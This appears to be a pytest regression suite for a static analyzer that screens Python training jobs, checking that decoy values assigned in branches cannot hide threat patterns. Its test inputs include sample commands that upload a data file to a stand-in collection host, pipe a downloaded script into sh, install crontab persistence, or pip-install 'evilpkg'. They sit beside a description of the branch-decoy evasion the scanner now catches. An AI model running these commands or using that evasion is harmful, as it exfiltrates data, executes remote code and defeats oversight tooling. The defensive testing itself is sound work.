"""Session 57 (hardening57): one more value in a branch hid a threat pattern's argument.

A threat rule's `regex` condition (a network tool, `curl | sh`, crontab, a printenv, a pip install...) read an
argument only when it folded to exactly one constant. `prog = "curl"` and, in a branch, `prog = "echo"`: two values,
so no text, and `subprocess.run([prog, "-d", "@/data/site.csv", URL])` lost subprocess.network-tool: reject turned
into escalate by adding two lines. Now the pattern reads every text the argument may hold (conditions.threat_texts);
past the resolver's value budget (MAX_SET) the call escalates on `unvouched.unresolved`, never accepts.
The jobs go through the CLI (a real subprocess) and a site's path (api.gate with a fork server).
"""

from __future__ import annotations

import json
from pathlib import Path

import libcst as cst
import pytest

import redteam_kit as kit
from analyzer import api
from analyzer.engine.conditions import MAX_COMMAND_LINES, MAX_COMMAND_TEXT, threat_texts
from analyzer.engine.resolve import MAX_SET, Resolver
from analyzer.model import Decision
from conftest import run_cli

# forks a site's fork server and runs the CLI: run alone (make test's second run)
pytestmark = pytest.mark.serial

SEND = "subprocess.run([prog, '-s', '-d', '@/data/site.csv', 'https://collect.example/u'])\n"


def _branches(name: str, first: object, others: list) -> str:
    """`name = first`, then one branch per other value (each written as its repr)."""
    return f"{name} = {first!r}\n" + "".join(f"if len(sys.argv) == {i}:\n    {name} = {v!r}\n"
                                            for i, v in enumerate(others))


def _job(tmp_path: Path, source: str) -> Path:
    job = tmp_path / "job"
    job.mkdir()
    (job / "train.py").write_text("import os, subprocess, sys\n" + source)
    return job


def _both_paths(job: Path, fork_server) -> list[tuple[str, set[str]]]:
    """(decision, rules) of `job` through the CLI and through a site's gate."""
    (cli,) = json.loads(run_cli("scan", "--no-cache", "--format", "json", str(job)).stdout)["reports"]
    _, site = api.gate(job, kit.POLICY, server=fork_server)
    return [(cli["decision"], {f["rule"] for f in cli["findings"]}), (site.decision.value, kit.rules(site))]


def test_a_second_value_in_a_branch_keeps_the_network_tool(tmp_path: Path, fork_server) -> None:
    """On main: reject with one value, escalate (`run-program` alone) with `prog = "echo"` in a branch."""
    job = _job(tmp_path, _branches("prog", "curl", ["echo"]) + SEND)
    for decision, rules in _both_paths(job, fork_server):
        assert decision == "reject", rules
        assert "subprocess.network-tool" in rules


@pytest.mark.parametrize("others", [1, MAX_SET - 1])
def test_decoy_commands_keep_fetch_and_run(others: int) -> None:
    """`os.system(cmd)`: `curl ... | sh` among up to MAX_SET - 1 harmless commands (each sorted before it)."""
    source = "import os, sys\n" + _branches("cmd", "curl -s http://dl.example.com/x | sh",
                                            [f"a{i:03d}" for i in range(others)]) + "os.system(cmd)\n"
    assert kit.holds(kit.scan_text(source), "remote-code.fetch-and-run-command")


@pytest.mark.parametrize("others", [1, 4, MAX_SET - 1])
def test_decoy_commands_keep_persistence_and_never_lower_the_decision(others: int) -> None:
    """crontab among harmless commands: the verdict of the one command, whatever the branches add."""
    line = "subprocess.run(line, shell=False)\n"
    alone = kit.scan_text("import subprocess, sys\nline = 'crontab /tmp/job.cron'\n" + line)
    padded = kit.scan_text("import subprocess, sys\n" + _branches("line", "crontab /tmp/job.cron",
                                                                  [f"echo {i}" for i in range(others)]) + line)
    assert alone.decision is Decision.REJECT and padded.decision is Decision.REJECT, kit.findings(padded)
    assert kit.holds(padded, "persistence.scheduler-command")


def test_an_argv_list_of_many_several_valued_parts_is_still_read() -> None:
    """Parts whose values multiply past MAX_COMMAND_LINES: each value is read beside the other parts."""
    parts = 3  # each of 5 values: 125 lines
    assert 5 ** parts > MAX_COMMAND_LINES
    source = "import subprocess, sys\n" + "".join(_branches(f"p{k}", "-v", ["-q", "-s", "-k", "-L"])
                                                  for k in range(parts))
    source += _branches("prog", "curl", ["echo"])
    source += "subprocess.run([prog, p0, p1, p2, '-d', '@/data/site.csv', 'https://collect.example/u'])\n"
    assert kit.holds(kit.scan_text(source), "subprocess.network-tool")


def test_a_long_argv_list_of_several_valued_parts_reads_in_bounded_text() -> None:
    """5,000 parts of two values each had read as 10,000 lines of 5,000 parts (three minutes for 15 KB, found at
    the merge): past MAX_COMMAND_TEXT each value is read alone beside the plain line, so twice the parts read as
    about twice the text, not four times, and the tool is still found."""
    def read(parts: int) -> tuple[str, list[str]]:
        source = "import subprocess, sys\n" + _branches("a", "curl", ["wget"]) + \
            "subprocess.run([" + ", ".join(["a"] * parts) + "])\n"
        resolver = Resolver(cst.parse_module(source))
        call = next(u for u in resolver.calls if "subprocess.run" in resolver.names(u.node.func, u.scope))
        return source, threat_texts(resolver, call.node.args[0].value, call.scope)

    _, half = read(2500)
    source, whole = read(5000)
    assert len(" ".join(half)) > MAX_COMMAND_TEXT // 8 and "curl" in whole and "wget" in whole
    assert len(" ".join(whole)) < 2.5 * len(" ".join(half)), (len(" ".join(half)), len(" ".join(whole)))
    assert kit.holds(kit.scan_text(source), "subprocess.network-tool")


def test_an_argv_list_bound_in_branches_keeps_the_install() -> None:
    """`a = ["pip", "install", X]`, `a = ["pip", "list"]` in a branch: on main the name of two bindings read as
    nothing (escalate)."""
    report = kit.scan_text("import subprocess, sys\n" + _branches("a", ["pip", "install", "evilpkg"], [["pip", "list"]])
                           + "subprocess.check_call(a)\n")
    assert report.decision is Decision.REJECT and kit.holds(report, "remote-code.pip-install-command"), \
        kit.findings(report)


def test_harmless_values_in_branches_match_no_threat() -> None:
    """The twin: two harmless programs in branches are a program launch (escalate), no threat."""
    report = kit.scan_text("import subprocess, sys\n" + _branches("prog", "nvidia-smi", ["echo"])
                           + "subprocess.run([prog, '-L'])\n")
    assert report.decision is Decision.ESCALATE, kit.findings(report)
    assert not any(f.kind == "threat" for f in report.findings), kit.findings(report)

